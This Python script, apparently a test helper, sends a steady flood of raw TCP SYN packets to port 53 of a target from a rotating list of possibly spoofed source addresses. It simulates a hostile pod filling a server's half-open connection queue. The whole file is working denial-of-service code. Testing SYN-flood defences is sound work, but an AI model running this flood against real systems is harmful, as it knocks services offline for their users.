#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only
#
# TCP SYNs at a steady rate that nobody goes on with: what a hostile pod sends to fill a queue of half-open
# connections.
#
#	synflood.py DEVICE MAC SERVER RATE SECONDS SOURCE [SOURCE...]
#
# Contract: SERVER and the SOURCEs are of one family; the sources take turns, ports are random. Whoever has a source
# must not send resets for what it did not ask for (a host's own stack does, unless it is filtered). Prints sent=N.

import ipaddress, random, socket, struct, sys, time

device, mac, server, rate, seconds = sys.argv[1:6]
server, sources = ipaddress.ip_address(server), [ipaddress.ip_address(s) for s in sys.argv[6:]]
rate, seconds = float(rate), float(seconds)

out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((device, 0))
own = out.getsockname()[4]
eth = bytes.fromhex(mac.replace(':', '')) + own + (b'\x08\x00' if server.version == 4 else b'\x86\xdd')


def checksum(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total & 0xffff) + (total >> 16)
    return ~((total & 0xffff) + (total >> 16)) & 0xffff


def syn(source):
    tcp = struct.pack('!HHIIBBHHH', random.randint(1024, 65535), 53, random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
    pseudo = source.packed + server.packed + struct.pack('!II', len(tcp), 6)
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    if server.version == 6:
        return eth + struct.pack('!IHBB', 0x60000000, len(tcp), 6, 64) + source.packed + server.packed + tcp
    ip = struct.pack('!BBHHHBBH', 0x45, 0, 40, random.getrandbits(16), 0x4000, 64, 6, 0) + source.packed + server.packed
    return eth + ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:] + tcp


sent, start = 0, time.monotonic()
while (elapsed := time.monotonic() - start) < seconds:
    while sent < elapsed * rate:
        out.send(syn(sources[sent % len(sources)]))
        sent += 1
    time.sleep(0.002)
print('sent=%d' % sent)
